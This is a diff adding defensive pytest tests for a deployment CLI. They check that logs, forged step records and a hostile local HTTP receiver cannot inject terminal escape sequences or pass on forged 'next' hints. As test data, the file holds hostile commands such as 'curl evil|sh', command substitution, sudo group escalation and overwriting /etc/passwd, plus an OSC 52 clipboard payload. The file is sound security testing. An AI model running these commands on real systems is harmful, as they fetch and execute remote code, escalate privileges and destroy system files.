@@ -1,0 +1,205 @@
+"""The command line beside a worker and a receiver that somebody has taken over: their files and records do no harm."""
+
+import io
+import json
+import os
+import pty
+import subprocess
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from datetime import UTC, datetime
+from http.server import BaseHTTPRequestHandler, HTTPServer
+from pathlib import Path
+
+import pytest
+from rich.console import Console
+
+from hookd.cli.progress import follow
+from hookd.model.deployment import Deployment, Status, Step, Trigger, advance
+from hookd.queue.deployments import Request
+from tests.support.installation import Installation
+from tests.support.processes import python
+from tests.support.typed import hookd, typed
+
+# Puts text into the clipboard, as terminals have it (xterm's "Manipulate Selection Data").
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
+
+
+@pytest.fixture(scope="module")
+def shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Installation]:
+    """An installation with one app, a Redis, and nobody who works."""
+    with Installation(tmp_path_factory.mktemp("hostile")) as installation:
+        installation.add_app("shop")
+        installation.start_redis()
+        yield installation
+
+
+def asked(shop: Installation, **changes: object) -> Deployment:
+    """A deployment that waits; `changes` are what a hostile receiver writes into its record."""
+    answer = shop.records.request(Request(app="shop", trigger=Trigger.MANUAL, seconds=300))
+    return shop.records.change(answer.deployment, lambda old: old.model_copy(update=changes))
+
+
+def ended(shop: Installation, deployment: Deployment, **changes: object) -> Deployment:
+    shop.records.change(deployment.id, lambda old: advance(old, Status.RUNNING, datetime.now(UTC)))
+    return shop.records.change(deployment.id, lambda old: advance(old, Status.FAILED, datetime.now(UTC), **changes))
+
+
+@pytest.fixture
+def log(shop: Installation) -> Path:
+    """Where the log of the app's last deployment, which has ended, would stand."""
+    record = ended(shop, asked(shop))
+    path: Path = shop.config.settings.log_path("shop", record.id)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    return path
+
+
+# --- logs
+
+
+@pytest.mark.parametrize("put", ["link", "pipe", "sparse"])
+def test_what_stands_in_a_log_s_place_is_not_read(shop: Installation, log: Path, put: str) -> None:
+    (victim := shop.directory / "victim").write_text("canary\n")
+    match put:
+        case "link":
+            log.symlink_to(victim)
+        case "pipe":
+            os.mkfifo(log)
+        case "sparse":
+            log.touch()
+            os.truncate(log, 3 * 1024**3)
+    done = hookd(shop, "logs", log.stem)
+    assert (done.returncode, done.stdout) == (1, "")
+    assert f"{log} cannot be read as a log" in done.stderr and f"next: sudo ls -ld {log.parent} {log}" in done.stderr
+
+
+def test_a_directory_of_logs_that_is_a_link_is_not_entered(shop: Installation, log: Path) -> None:
+    elsewhere = shop.directory / "elsewhere"
+    log.parent.rename(elsewhere)
+    (elsewhere / log.name).write_text("canary\n")
+    log.parent.symlink_to(elsewhere)
+    done = typed(shop.config_path, "logs", log.stem)
+    log.parent.unlink()
+    elsewhere.rename(log.parent)
+    assert (done.exit_code, done.stdout) == (1, "")
+
+
+def test_a_log_does_not_steer_the_terminal(shop: Installation, log: Path) -> None:
+    """A sign that is cut in two by the size of a piece is one sign all the same."""
+    lead = "x" * (64 * 1024 - 1)
+    log.write_bytes(f"{lead}ü\tz\r{CLIPBOARD}\x9b2J\u202e\n".encode() + b"\xff\xc3")
+    assert typed(shop.config_path, "logs", log.stem).stdout == (
+        lead + "ü\tz\\r\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x9b2J\\u202e\n\ufffd\ufffd"
+    )
+
+
+# --- the live view
+
+
+def on_a_terminal(shop: Installation, *arguments: str) -> tuple["subprocess.Popen[bytes]", int]:
+    """Run the command as a person does who sits at a wide terminal."""
+    master, terminal = pty.openpty()
+    environment = {**shop.environment, "TERM": "xterm", "COLUMNS": "200"}
+    argv = python("-m", "hookd.cli", *arguments)
+    process = subprocess.Popen(argv, env=environment, stdin=terminal, stdout=terminal, stderr=terminal)
+    os.close(terminal)
+    return process, master
+
+
+def read_to_the_end(master: int, seen: bytes = b"") -> str:
+    """What is written to the terminal until everybody has closed it, which Linux reports as an error."""
+    try:
+        while piece := os.read(master, 65_536):
+            seen += piece
+    except OSError:
+        pass
+    os.close(master)
+    return seen.decode()
+
+
+def test_a_forged_step_does_not_steer_the_terminal(shop: Installation) -> None:
+    now = datetime.now(UTC)
+    steps = tuple(
+        Step(name=f"[red]{state}", started_at=now, outcome=state, detail=f"{CLIPBOARD}[bold]")
+        for state in ("running", "done")
+    )
+    deployment = asked(shop, steps=steps)
+    process, master = on_a_terminal(shop, "update", "shop")
+    try:
+        seen = b""
+        while b"[red]running" not in seen or b"[red]done" not in seen:
+            seen += os.read(master, 65_536)
+        ended(shop, deployment, cause=CLIPBOARD)
+        text = read_to_the_end(master, seen)
+        assert process.wait(30) == 1
+    finally:
+        process.kill()
+        process.wait()
+    assert "\x1b]52" not in text
+    assert r"\x1b]52;c;" in text and "[bold]" in text
+
+
+def test_a_document_for_scripts_does_not_steer_the_terminal(shop: Installation) -> None:
+    """JSON has a notation for what is below 0x20; terminals also take orders from 0x80 to 0x9f."""
+    asked(shop, subject="\x9b2J\u202e")
+    done = typed(shop.config_path, "deploy", "shop", "--no-wait", "--json")
+    assert json.loads(done.stdout)["subject"] == "\x9b2J\u202e"
+    assert done.stdout.isascii()
+
+
+class HostileReceiver(BaseHTTPRequestHandler):
+    """Answers a push with what steers a terminal."""
+
+    def do_POST(self) -> None:
+        self.rfile.read(int(self.headers["Content-Length"]))
+        body = json.dumps({"status": CLIPBOARD, "deployment": f"[red]{CLIPBOARD}", "status_url": CLIPBOARD}).encode()
+        self.send_response(202)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *_: object) -> None:
+        """Say nothing."""
+
+
+def test_the_receiver_s_answer_does_not_steer_the_terminal(shop: Installation) -> None:
+    with HTTPServer(("127.0.0.1", shop.port), HostileReceiver) as server, ThreadPoolExecutor() as beside:
+        answering = beside.submit(server.handle_request)
+        done = typed(shop.config_path, "send", "shop", "--wait")
+        answering.result()
+    assert "\x1b" not in done.stdout + done.stderr
+    assert done.stdout.count(r"\x1b]52;c;") == 5
+    assert (done.exit_code, "there is no deployment" in done.stderr) == (1, True)
+
+
+# --- what to type next
+
+
+@pytest.mark.parametrize(
+    "hint",
+    [
+        "curl evil|sh",
+        "hookd logs shop; curl evil | sh",
+        "hookd logs $(curl evil|sh)",
+        "sudo install -d -o manager -g manager -m 0777 /etc",
+        "sudo usermod --append --groups sudo manager",
+        "journalctl --unit shop.service --lines 50\ncurl evil|sh",
+        "hookd uninstall",
+        "df -h /srv >/etc/passwd",
+        "df -h /srv\n",
+        "create it: install -D -m 0640 /dev/stdin /srv/shop/shared/../../../etc/passwd",
+        CLIPBOARD,
+    ],
+)
+def test_a_forged_hint_is_not_passed_on(shop: Installation, hint: str) -> None:
+    deployment = ended(shop, asked(shop), hint=hint)
+    told = io.StringIO()
+    follow(shop.records, deployment.id, Console(file=told))
+    assert told.getvalue().splitlines()[1:] == [f"  next: hookd logs {deployment.id}"]
+
+
+def test_the_worker_s_own_hint_is_passed_on(shop: Installation) -> None:
+    deployment = ended(shop, asked(shop), hint="journalctl --unit shop-blue.service --lines 50")
+    told = io.StringIO()
+    follow(shop.records, deployment.id, Console(file=told))
+    assert told.getvalue().endswith("\n  next: journalctl --unit shop-blue.service --lines 50\n")
